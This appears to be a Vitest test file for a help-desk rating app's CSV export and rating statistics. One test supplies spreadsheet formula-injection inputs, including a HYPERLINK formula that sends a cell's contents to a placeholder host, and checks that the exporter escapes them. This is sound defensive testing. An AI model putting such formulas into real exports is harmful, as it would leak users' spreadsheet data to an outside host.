/** The ratings CSV export and the rating statistics. */
import { describe, expect, it } from 'vitest';
import { ratingsCsv, toCsv } from '../../src/apps/okdesk-rating/csv.js';
import { median, ratingStats, type RatingStatsRow } from '../../src/apps/okdesk-rating/stats.js';

describe('toCsv', () => {
  it('starts with a BOM, ends every line with CRLF and quotes only what needs it', () => {
    const csv = toCsv(['a', 'b'], [
      ['plain', 1],
      ['with,comma', 'say "hi"'],
      ['line\nbreak', 'cr\rhere'],
      [null, 2.5],
    ]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1)).toBe('a,b\r\nplain,1\r\n"with,comma","say ""hi"""\r\n"line\nbreak","cr\rhere"\r\n,2.5\r\n');
  });

  it('a text cell a spreadsheet would run as a formula starts with a quote; numbers stay numbers', () => {
    const csv = toCsv(['title', 'n'], [
      ['=HYPERLINK("http://evil.example/?x="&A1,"click")', -3],
      ['@SUM(A1:A9)', 4],
      ['+1+2', 0],
      ['-3+4', 1],
      ['\tcmd', 2],
      ['Принтер = сломан', 5],
    ]);
    expect(csv.slice(1).split('\r\n').slice(1, -1)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-3`,
      "'@SUM(A1:A9),4",
      "'+1+2,0",
      "'-3+4,1",
      "'\tcmd,2",
      'Принтер = сломан,5',
    ]);
  });

  it('keeps Cyrillic as UTF-8 text', () => {
    const csv = toCsv(['title'], [['Не работает принтер']]);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv).toBe('\uFEFFtitle\r\nНе работает принтер\r\n');
  });

  it('ratingsCsv writes the header and ISO times', () => {
    const csv = ratingsCsv([
      { issueId: '1380', title: 'Принтер, 3 этаж', contactId: '95', score: 5, resolvedAt: Date.UTC(2024, 0, 2, 10), ratedAt: Date.UTC(2024, 0, 2, 10, 5) },
      { issueId: '1381', title: null, contactId: null, score: null, resolvedAt: null, ratedAt: null },
    ]);
    expect(csv.slice(1).split('\r\n')).toEqual([
      'issue_id,title,contact_id,score,resolved_at,rated_at',
      '1380,"Принтер, 3 этаж",95,5,2024-01-02T10:00:00.000Z,2024-01-02T10:05:00.000Z',
      '1381,,,,,',
      '',
    ]);
  });
});

describe('ratingStats', () => {
  const T = Date.UTC(2024, 0, 1);
  const row = (r: Partial<RatingStatsRow>): RatingStatsRow => ({
    score: null,
    status: 'requested',
    resolvedAt: null,
    issueCreatedAt: null,
    requestedAt: T,
    ratedAt: null,
    label: null,
    ...r,
  });

  it('no rows → zeros, never null', () => {
    expect(ratingStats([])).toEqual({
      count: 0,
      average: 0,
      distribution: { '1': 0, '2': 0, '3': 0, '4': 0, '5': 0 },
      resolutionTime: { average: 0, p50: 0 },
      ratingDelay: { average: 0, p50: 0 },
      topProblems: [],
      requested: 0,
      noChat: 0,
    });
  });

  it('counts, averages, medians and top problems on a small set', () => {
    const rows = [
      row({ score: 5, status: 'rated', issueCreatedAt: T - 3600_000, resolvedAt: T, ratedAt: T + 60_000, label: 'Принтер' }),
      row({ score: 4, status: 'rated', issueCreatedAt: T - 7200_000, resolvedAt: T, ratedAt: T + 120_000, label: 'Принтер' }),
      row({ score: 2, status: 'rated', issueCreatedAt: T - 600_000, resolvedAt: T, ratedAt: T + 600_000, label: 'Сеть' }),
      row({ status: 'requested', issueCreatedAt: T - 1000_000, resolvedAt: T, label: 'Почта' }), // not rated
      row({ status: 'no_chat', label: 'Почта' }),
      row({ status: 'no_chat' }),
    ];
    expect(ratingStats(rows)).toEqual({
      count: 3,
      average: 3.67, // 11 / 3
      distribution: { '1': 0, '2': 1, '3': 0, '4': 1, '5': 1 },
      // 3600, 7200, 600, 1000 s
      resolutionTime: { average: 3100, p50: 2300 },
      // 60, 120, 600 s
      ratingDelay: { average: 260, p50: 120 },
      topProblems: [
        { label: 'Принтер', count: 2 },
        { label: 'Сеть', count: 1 },
      ],
      requested: 6,
      noChat: 2,
    });
  });

  it('keeps the five most frequent labels', () => {
    const labels = ['a', 'a', 'a', 'b', 'b', 'c', 'd', 'e', 'f', 'g'];
    const top = ratingStats(labels.map((label) => row({ score: 3, ratedAt: T, label }))).topProblems;
    expect(top).toEqual([
      { label: 'a', count: 3 },
      { label: 'b', count: 2 },
      { label: 'c', count: 1 },
      { label: 'd', count: 1 },
      { label: 'e', count: 1 },
    ]);
  });

  it('median of odd and even sets', () => {
    expect(median([3, 1, 2])).toBe(2);
    expect(median([4, 1, 3, 2])).toBe(2.5);
    expect(median([])).toBe(0);
  });
});
